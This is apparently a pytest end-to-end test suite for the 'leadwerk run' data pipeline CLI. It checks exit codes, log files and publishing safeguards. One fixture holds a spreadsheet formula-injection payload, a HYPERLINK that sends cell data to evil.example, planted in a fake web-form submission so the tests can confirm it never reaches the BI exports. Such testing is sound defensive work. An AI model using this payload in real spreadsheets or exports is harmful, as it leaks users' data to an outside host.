"""`leadwerk run` end to end: compact progress, a log file, and the documented exit codes 0, 3 and 4."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

pytestmark = pytest.mark.slow

LEADWERK = Path(sys.executable).with_name("leadwerk")
PEOPLE = 150
BROKEN_FILE = "crm_exports/hubspot/export_from_the_new_tool.csv"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
HOSTILE_SUBMISSION = {
    "submission_id": "sub_hostile_1", "form_type": FORMULA, "submitted_at": "2025-12-01T18:49:53+01:00",
    "page_url": "https://www.leadwerk-demo.de/x", "utm": {"source": None, "medium": None, "campaign": None},
    "fields": {"salutation": "Frau", "first_name": "Mallory", "last_name": "Formel", "email": "mallory@example.org",
               "phone": None, "company": None, "job_title": None, "postcode": "10115", "city": "Berlin",
               "country": "Deutschland", "message": None},
    "consent": {"email_marketing": False, "phone_marketing": False, "text_version": "einwilligung-v3-2024-05"},
    "double_opt_in": None,
}


def _run(root: Path, *flags: str) -> subprocess.CompletedProcess:
    from ingest.generate import ANCHOR_DATE

    env = {
        **os.environ, "LEADWERK_DATA_DIR": str(root), "LEADWERK_WAREHOUSE": str(root / "warehouse.duckdb"),
        "DAGSTER_HOME": str(root / "dagster_home"), "LEADWERK_AS_OF": ANCHOR_DATE.isoformat(),
    }
    return subprocess.run([str(LEADWERK), "run", *flags], env=env, capture_output=True, text=True, timeout=900)


def _drop_broken_file(root: Path) -> None:
    path = root / "landing" / BROKEN_FILE
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("Kunde,Umsatz\nACME,12\n", encoding="utf-8")


@pytest.fixture(scope="module")
def good_run(tmp_path_factory, dbt_manifest) -> tuple[Path, subprocess.CompletedProcess]:
    from ingest.generate import generate_landing

    root = tmp_path_factory.mktemp("good") / "data"
    generate_landing(root / "landing", people=PEOPLE, seed=11)
    (root / "landing" / "web_forms" / "submissions_hostile.jsonl").write_text(
        json.dumps(HOSTILE_SUBMISSION) + "\n", encoding="utf-8"
    )
    return root, _run(root)


def test_a_clean_run_exits_0_with_one_line_per_step_and_a_log_file(good_run):
    root, result = good_run
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    steps = [line.split()[1] for line in result.stdout.splitlines() if line.startswith("  ok ")]
    assert {"ingest_landing_files", "normalize", "dedupe", "leadwerk_dbt_models", "serving__leadwerk_duckdb"} <= set(steps)
    ingest_line = next(line for line in result.stdout.splitlines() if "ingest_landing_files" in line)
    assert "rows in" in ingest_line and ingest_line.rstrip().endswith(" s")
    assert " of 184 START" not in result.stdout and "Traceback" not in result.stdout + result.stderr
    log = next((root / "logs").glob("run-*.log")).read_text(encoding="utf-8")
    assert "START" in log and "STEP_SUCCESS" in log  # dbt's own lines and every Dagster event


def test_a_formula_typed_into_a_web_form_reaches_bi_only_as_other(good_run):
    import duckdb
    import polars as pl

    root, _ = good_run
    serving = root / "serving"
    with duckdb.connect(str(serving / "leadwerk.duckdb"), read_only=True) as conn:
        assert conn.execute(
            # normalization lower-cases form types; the formula itself survives into the marts
            "select count(*) from marts.mart_source_performance where source_detail = lower(?)", [FORMULA]
        ).fetchone() == (1,)
        assert conn.execute(
            "select count(*) from bi.mart_source_performance where source_detail = 'other'"
        ).fetchone()[0] >= 1
    for path in (serving / "parquet" / "bi").glob("*.parquet"):
        text = pl.read_parquet(path).select(pl.all().cast(pl.String)).write_csv()
        assert "hyperlink" not in text.lower() and "mallory" not in text.lower(), path.name


def test_a_run_that_rejects_a_file_whole_exits_3_and_names_it(good_run):
    root, _ = good_run
    _drop_broken_file(root)
    result = _run(root)
    assert result.returncode == 3, result.stdout[-3000:] + result.stderr[-3000:]
    assert f"{BROKEN_FILE}: unknown_format" in result.stdout


def test_an_all_rejected_run_keeps_the_good_served_copy_and_exits_4(good_run, tmp_path):
    from orchestration.publishing import published_version, serving_fingerprint

    good, _ = good_run
    root = tmp_path / "data"
    shutil.copytree(good / "serving", root / "serving", symlinks=True)
    _drop_broken_file(root)
    before = serving_fingerprint(root / "serving")

    result = _run(root)
    assert result.returncode == 4, result.stdout[-3000:] + result.stderr[-3000:]
    assert "Publishing blocked" in result.stdout and "--allow-volume-drop" in result.stdout
    assert serving_fingerprint(root / "serving") == before

    # Published now; the file is still rejected (it is read again on every run until it loads).
    forced = _run(root, "--allow-volume-drop")
    assert forced.returncode == 3, forced.stdout[-3000:] + forced.stderr[-3000:]
    assert "export_from_the_new_tool.csv" in forced.stdout
    assert published_version(root / "serving")["row_counts"]["marts.mart_lead_scores"] == 0
